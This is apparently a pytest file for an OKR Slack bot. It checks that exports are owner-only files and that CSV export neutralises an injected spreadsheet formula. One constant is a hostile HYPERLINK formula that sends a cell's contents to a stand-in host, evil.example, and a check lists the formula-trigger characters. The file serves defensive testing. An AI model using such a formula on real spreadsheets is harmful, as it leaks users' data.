"""Issue 9 items 9 and 12: exports are private files, and a CSV export cannot carry a spreadsheet formula.

The file mode is checked on a real `okrbot export` process; the formula comes in through the real edit
path (the KR owner retitles their KR in the edit modal, signed requests into the running bot).
"""

import asyncio
import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from alembic import command

from bot.cli import main
from storage import okrs
from storage.migrate import alembic_config
from tests.scenario.view_seed import seed

EXAMPLE = Path(__file__).parents[2] / "examples" / "okrs.yaml"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def okrbot(db: Path, *args) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SLACK_")}
    env |= {"DATABASE_URL": f"sqlite:///{db}", "PYTHONPATH": str(Path(__file__).parents[2])}
    return subprocess.run(
        [sys.executable, "-m", "bot", *map(str, args)],
        cwd=db.parent, env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("fmt", ["yaml", "json", "csv"])
def test_export_out_is_readable_by_its_owner_only_even_over_an_existing_file(tmp_path, fmt):
    db = tmp_path / "okrbot.db"
    assert okrbot(db, "import", EXAMPLE).returncode == 0
    fresh, existing = tmp_path / f"fresh.{fmt}", tmp_path / f"old.{fmt}"
    existing.write_text("an older export, world-readable\n")
    existing.chmod(0o644)
    flags = ["--include-review-notes"] if fmt != "csv" else []
    for path in (fresh, existing):
        done = okrbot(db, "export", "--format", fmt, *flags, "--out", path)
        assert done.returncode == 0, done.stderr
        assert mode(path) == 0o600, oct(mode(path))
        assert "older export" not in path.read_text() and "Make onboarding effortless" in path.read_text()
    assert "readable by its owner only" in done.stderr


async def test_owner_retitles_kr_to_a_formula_and_csv_export_neutralises_it(bot, tmp_path, monkeypatch):
    s = await seed(bot)
    kr_id = s.kr_ids[0]
    await bot.req.block_action("U0OWNER", "okr.edit.kr", str(kr_id), channel_id="C0GENERAL")
    assert bot.fake.calls_to("views.open")[-1].ok
    resp = await bot.req.view_submission("U0OWNER", "okr.edit.kr_modal", {"title": {"title": FORMULA}})
    assert resp.status == 200 and not resp.body
    await _set_start(bot, kr_id, -5)  # a negative number must stay a number, not become text

    monkeypatch.setenv("DATABASE_URL", bot.settings.database_url)
    out = tmp_path / "okrs.csv"
    assert await asyncio.to_thread(export_csv, bot.settings.database_url, out) == 0
    rows = {r["key_result"]: r for r in csv.DictReader(io.StringIO(out.read_text()))}
    assert FORMULA not in rows and rows["'" + FORMULA]["start"] == "-5"  # the quote disarms it; -5 stays a number
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows.values() for cell in r.values())


def export_csv(url: str, out: Path) -> int:
    command.stamp(alembic_config(url), "head")  # the harness built the schema with create_all
    return main(["export", "--format", "csv", "--out", str(out)])


async def _set_start(bot, kr_id: int, value: float) -> None:
    async with bot.db.transaction() as sess:
        kr = await okrs.get_key_result(session=sess, kr_id=kr_id)
        kr.start_value = value
